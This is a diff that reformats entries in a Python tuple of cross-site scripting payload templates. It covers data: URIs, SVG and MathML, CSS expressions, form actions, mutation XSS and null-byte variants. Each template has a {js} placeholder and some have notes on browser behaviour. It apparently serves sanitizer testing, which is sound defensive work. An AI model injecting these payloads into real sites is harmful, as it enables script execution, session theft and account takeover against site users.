@@ -106,8 +106,7 @@ PAYLOADS: tuple[Payload, ...] = (
     P("data:", '<iframe src="DaTa:text/html,<script>{js}</script>"></iframe>'),
     P(
         "data:",
-        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
-        "onload='{js}'/>\">",
+        "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{js}'/>\">",
         "an SVG loaded as an image never runs script",
     ),
     # SVG and MathML
@@ -117,7 +116,7 @@ PAYLOADS: tuple[Payload, ...] = (
     P("svg", "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>"),
     P("svg", '<svg><a href="javascript:{js}"><text x="9" y="9">链接</text></a></svg>'),
     P("svg", "<svg><p><img src=x onerror={js}>"),
-    P("svg", "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">"),
+    P("svg", '<svg></p><style><a id="</style><img src=1 onerror={js}>">'),
     P("math", '<math><mtext><img src=x onerror="{js}"></mtext></math>'),
     P("math", "<math><mtext><table><mglyph><style><img src=x onerror={js}>", REPARSE, False),
     P(
@@ -144,7 +143,11 @@ PAYLOADS: tuple[Payload, ...] = (
     P("style", '<div style="width:expression({js})">样式</div>', IE),
     P("style", '<div style="x:\\65xpression({js})">样式</div>', IE),
     P("style", '<div style="behavior:url({marker}.htc)">样式</div>', IE),
-    P("style", '<div style="-moz-binding:url({marker}#x)">样式</div>', "-moz-binding: Firefox-only"),
+    P(
+        "style",
+        '<div style="-moz-binding:url({marker}#x)">样式</div>',
+        "-moz-binding: Firefox-only",
+    ),
     P(
         "style",
         '<div style="background:url(javascript:{js})">样式</div>',
@@ -161,7 +164,10 @@ PAYLOADS: tuple[Payload, ...] = (
     P("form", '<form action="javascript:{js}"><button>提交</button></form>'),
     P("form", '<form><button formaction="javascript:{js}">提交</button></form>'),
     P("form", '<form action="{marker}"><input type="submit" value="提交"></form>'),
-    P("form", '<form id="f{n}"></form><button form="f{n}" formaction="javascript:{js}">提交</button>'),
+    P(
+        "form",
+        '<form id="f{n}"></form><button form="f{n}" formaction="javascript:{js}">提交</button>',
+    ),
     # mXSS through raw-text and parser-switching elements, and comments
     P("mxss", '<noscript><p title="</noscript><img src=x onerror={js}>"></noscript>'),
     P("mxss", "<template><script>{js}</script></template>", INERT),
@@ -188,5 +194,9 @@ PAYLOADS: tuple[Payload, ...] = (
     P("null", "<scr\x00ipt>{js}</scr\x00ipt>", NUL),
     P("null", "<img src=x o\x00nerror={js}>", NUL),
     P("null", '<a href="java\x00script:{js}">链接</a>', NUL),
-    P("null", '<a href="javascript:{js}\x00">链接</a>', "U+FFFD (the parser's null) ends the script"),
+    P(
+        "null",
+        '<a href="javascript:{js}\x00">链接</a>',
+        "U+FFFD (the parser's null) ends the script",
+    ),
 )
